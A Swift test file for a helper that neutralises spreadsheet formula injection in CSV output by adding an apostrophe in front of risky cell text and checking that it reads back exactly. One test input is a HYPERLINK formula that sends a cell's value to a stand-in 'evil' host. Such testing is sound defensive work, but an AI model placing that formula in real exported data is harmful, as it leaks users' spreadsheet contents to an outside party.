import Foundation
import Interchange
import TestSupport
import Testing

@Suite("Texts that a spreadsheet could take for formulas") struct FormulaMarkTests {
  @Test(
    "They get one apostrophe in front, and lose it when they are read",
    arguments: [
      "=HYPERLINK(\"http://evil/?\"&A1)", "=1+1", "+33 1 23 45 67 89", "+5", "-", "- pain, lait", "-1+1",
      "-5%",
      "-1,5", "-.5", "-5.", "-1.5e", "--5", "-٣", "-5\u{301}", "@SUM(A1)", "\t=1", "\t", "\r=1", "\r\n=1",
      "=\u{338}1", "-12.5\n=1", "'=1", "''=1", "'-12.5", "'\t", "'''@x",
    ])
  func marked(text: String) {
    let cell = FormulaMark.added(to: text)
    #expect(Array(cell.utf8) == Array("'".utf8) + Array(text.utf8))
    #expect(FormulaMark.removed(from: cell).map { Array($0.utf8) } == Array(text.utf8))
  }

  @Test(
    "Any other text, and a number below zero, stays as it is",
    arguments: [
      "", "a=1", " =1", "\n=1", "'", "''", "it's", "'quoted'", "’=1", "'\u{301}=1", "5", "-5", "-0", "-12.50",
      "-1e-05", "-5e+20", "1-2", "2026-01-10", "(=1)", "\"=1\"", ",=1",
    ])
  func plain(text: String) {
    #expect(Array(FormulaMark.added(to: text).utf8) == Array(text.utf8))
    #expect(FormulaMark.removed(from: text) == nil)
  }

  @Test("Whatever is written with the mark opens no formula, and reads back byte for byte")
  func roundTrip() throws {
    var random = SeededGenerator.printed()
    let alphabet = [
      "'", "=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "\u{301}", "\u{338}", "\"", ",", " ", "1", ".", "e",
      "é",
    ]
    let texts = (0..<2_000).map { _ in
      (0..<Int.random(in: 0...6, using: &random)).map { _ in alphabet.randomElement(using: &random) ?? "" }
        .joined()
    }
    var bytes = Data()
    var writer = CSVWriter { bytes += $0 }
    for text in texts { try writer.write([FormulaMark.added(to: text), "x"]) }
    try writer.finish()
    let cells = try rows(bytes, delimiter: ",").map(\.[0])
    #expect(
      cells.map { Array((FormulaMark.removed(from: $0) ?? $0).utf8) } == texts.map { Array($0.utf8) })
    let live = cells.filter { cell in
      "=+-@\t\r".utf8.contains { $0 == cell.utf8.first }
        && cell.wholeMatch(of: /-[0-9]+(\.[0-9]+)?(e[-+]?[0-9]+)?/) == nil
    }
    #expect(live == [])
  }

  @Test("A row gives a marked text exactly, any other trimmed, and nothing for what is blank")
  func row() {
    let row = CSVRow(fields: ["'\t=1 ", " a ", " '=1", "'\t ", "", "''=1"], line: 1)
    #expect((0..<7).map { row.unmarkedText($0) } == ["\t=1 ", "a", "'=1", nil, nil, "'=1", nil])
    #expect(row.unmarkedText(nil) == nil)
    #expect(row.text(0) == "'\t=1")
  }
}
